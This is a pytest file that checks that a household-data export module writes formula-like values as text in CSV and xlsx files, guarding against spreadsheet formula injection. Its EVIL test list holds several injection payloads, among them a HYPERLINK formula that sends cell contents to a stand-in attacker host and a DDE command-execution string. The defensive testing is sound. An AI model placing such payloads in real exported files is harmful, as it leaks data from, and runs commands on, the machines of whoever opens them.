"""Exported names that look like formulas reach Excel as text (CSV with a leading apostrophe, xlsx as text cells)."""

import io

import openpyxl
import pytest

from fupin.core.exportcells import csv_cell, csv_row, openpyxl_text_row, xlsx_workbook
from fupin.core.testing import make_household, make_user

EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1",
        "\r=1+1"]


@pytest.mark.parametrize("value", EVIL)
def test_csv_cell_makes_formula_starts_text(value):
    assert csv_cell(value) == "'" + value


def test_csv_cell_leaves_the_rest():
    assert csv_row(["张三", 12, -3.5, None, "420581199001011234", "a=b"]) == [
        "张三", 12, -3.5, None, "420581199001011234", "a=b"]


def test_xlsx_helpers_write_text_cells(tmp_path):
    buf = io.BytesIO()
    wb = xlsx_workbook(buf, {"in_memory": True})
    ws = wb.add_worksheet()
    for i, v in enumerate(EVIL):
        ws.write(i, 0, v)
    wb.close()
    cells = [row[0] for row in openpyxl.load_workbook(io.BytesIO(buf.getvalue())).active.iter_rows()]
    # (openpyxl reads a carriage return back as its escape _x000D_: the cell is text all the same)
    assert [c.value for c in cells][:5] == EVIL[:5] and {c.data_type for c in cells} == {"s"}
    wb2 = openpyxl.Workbook()
    openpyxl_text_row(wb2.active, EVIL)
    wb2.save(tmp_path / "o.xlsx")
    row = next(openpyxl.load_workbook(tmp_path / "o.xlsx").active.iter_rows())
    assert [c.value for c in row][:5] == EVIL[:5] and {c.data_type for c in row} == {"s"}


def test_household_csv_export_writes_formula_names_as_text(client, db, county):
    make_household(county["va1"], head=EVIL[0], is_registered_poor=True, poor_code="EVIL1")
    client.force_login(make_user("csv-office", "city_office", division=county["county"]))
    body = b"".join(client.get("/households/export.csv").streaming_content).decode("utf-8-sig")
    assert "'=HYPERLINK(" in body
    assert ',=HYPERLINK(' not in body and '"=HYPERLINK(' not in body
